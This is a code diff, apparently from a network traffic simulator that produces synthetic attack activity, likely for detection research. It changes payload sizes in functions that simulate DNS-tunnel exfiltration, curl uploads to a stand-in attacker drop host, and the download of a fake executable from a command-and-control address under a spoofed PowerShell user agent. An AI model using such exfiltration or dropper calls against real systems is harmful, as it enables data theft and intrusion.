@@ -180,7 +180,7 @@ def dns_tunnel(act, nbytes):
         while time.time() < deadline and "dns0" not in act.sh("ip", "-br", "link")[1]:
             time.sleep(.3)
         time.sleep(2)
-        up = act.sh("curl", "-sS", "-o", "/dev/null", "--max-time", "60", "-T", life.blob(act, nbytes), "http://10.99.7.1/in", timeout=65)
+        up = act.sh("curl", "-sS", "-o", "/dev/null", "--max-time", "60", "-T", life.blob(act, max(nbytes, 60_000 / act.world.scale)), "http://10.99.7.1/in", timeout=65)
         down = act.sh("curl", "-sS", "-o", "/dev/null", "--max-time", "20", "http://10.99.7.1/tasks", timeout=25)
     finally:
         act.end(p)
@@ -262,7 +262,8 @@ def mining(act, hours):
 # -- taking data out -----------------------------------------------------------------------------
 def exfil_fast(act, nbytes):
     s = act.world.site
-    life.curl(act, "-k", "-T", life.blob(act, nbytes), f"https://{s.evil['drop']}:8443/u/{rng(act).getrandbits(40):x}", agent="curl/7.88.1", proxied=False, timeout=90)
+    nbytes = max(life.size(act, nbytes), 600_000)
+    life.curl(act, "-k", "-T", life.blob(act, nbytes / act.world.scale), f"https://{s.evil['drop']}:8443/u/{rng(act).getrandbits(40):x}", agent="curl/7.88.1", proxied=False, timeout=90)
     return nbytes
 
 
@@ -277,7 +278,7 @@ def exfil_slow(act, n, nbytes, minutes):
 def drop_program(act):
     """A program fetched over plain HTTP from a bare address (random bytes behind an MZ head)."""
     s = act.world.site
-    life.curl(act, f"http://{s.dns[s.evil['c2a']][1]}:8080/invoice_{rng(act).randint(1000, 9999)}.{life.size(act, 400000)}.exe", agent="WindowsPowerShell/5.1", proxied=False)
+    life.curl(act, f"http://{s.dns[s.evil['c2a']][1]}:8080/invoice_{rng(act).randint(1000, 9999)}.{max(life.size(act, 400_000), 60_000)}.exe", agent="WindowsPowerShell/5.1", proxied=False)
 
 
 # -- inside the domain ---------------------------------------------------------------------------
